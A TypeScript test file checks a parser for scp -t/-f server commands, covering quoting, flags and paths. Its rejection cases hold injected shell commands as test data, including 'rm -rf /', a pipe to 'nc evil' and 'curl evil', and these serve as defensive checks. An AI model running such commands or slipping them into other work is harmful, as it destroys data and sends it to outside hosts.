import { describe, expect, it } from 'vitest';
import { parseScpCommand } from './scp-command.ts';

describe('parseScpCommand', () => {
  it.each([
    // As OpenSSH 9.2 `scp -O` sends them (see scp.openssh.test.ts).
    ['scp -t /srv/in/', { direction: 'upload', paths: ['/srv/in/'], recursive: false }],
    ['scp -d -t /srv/in/', { direction: 'upload', paths: ['/srv/in/'], recursive: false }],
    ['scp -r -p -t /srv/in/', { direction: 'upload', paths: ['/srv/in/'], recursive: true }],
    ['scp -v -f /var/log/app.log', { direction: 'download', paths: ['/var/log/app.log'], recursive: false }],
    ['scp -r -f -- -odd-name', { direction: 'download', paths: ['-odd-name'], recursive: true }],
    // Other clients and hand-written commands.
    ['scp -rpt dest', { direction: 'upload', paths: ['dest'], recursive: true }],
    ['/usr/bin/scp -f a b c', { direction: 'download', paths: ['a', 'b', 'c'], recursive: false }],
    ['scp  -f\t~/notes.txt   *.log ', { direction: 'download', paths: ['~/notes.txt', '*.log'], recursive: false }],
  ])('reads %j', (command, expected) => {
    expect(parseScpCommand(command)).toEqual(expected);
  });

  it('splits words as the target shell does, quotes and backslashes included', () => {
    expect(parseScpCommand(`scp -f '/a b/c d' "/e f/\\"g\\"" /h\\ i ''`)?.paths).toEqual(['/a b/c d', '/e f/"g"', '/h i', '']);
    expect(parseScpCommand(`scp -t "/it's here/"`)?.paths).toEqual(["/it's here/"]);
    expect(parseScpCommand(`scp -t /a'b c'"d e"f`)?.paths).toEqual(['/ab cd ef']);
    expect(parseScpCommand('scp -f "ü/😀"')?.paths).toEqual(['ü/😀']);
    // Without quotes the shell splits a remote path with a space in two, and so do we.
    expect(parseScpCommand('scp -f /srv/big file.bin')?.paths).toEqual(['/srv/big', 'file.bin']);
  });

  it.each([
    ['another program', 'ls -la /srv'],
    ['a program merely named like scp', 'scpx -t /srv'],
    ['sftp', 'sftp -t /srv'],
    ['scp with no mode', 'scp /srv'],
    ['both -t and -f', 'scp -t -f /srv'],
    ['-t without a path', 'scp -t'],
    ['-t with two paths (scp refuses it too)', 'scp -t /a /b'],
    ['-f without a path', 'scp -r -f --'],
    ['an unknown flag', 'scp -l 100 -t /srv'],
    ['a second command', 'scp -t /srv; rm -rf /'],
    ['a pipe', 'scp -f /srv | nc evil 1'],
    ['an and-list', 'scp -f a && curl evil'],
    ['a redirection', 'scp -f a > /tmp/x'],
    ['a command substitution', 'scp -f $(cat list)'],
    ['a variable', 'scp -f "$HOME/x"'],
    ['a backquote in double quotes', 'scp -f "`id`"'],
    ['a comment', '# scp -t /srv'],
    ['a newline', 'scp -t /srv\nreboot'],
    ['an unterminated quote', "scp -f 'a"],
    ['an empty command', '   '],
  ])('returns null for %s', (_what, command) => {
    expect(parseScpCommand(command)).toBeNull();
  });
});
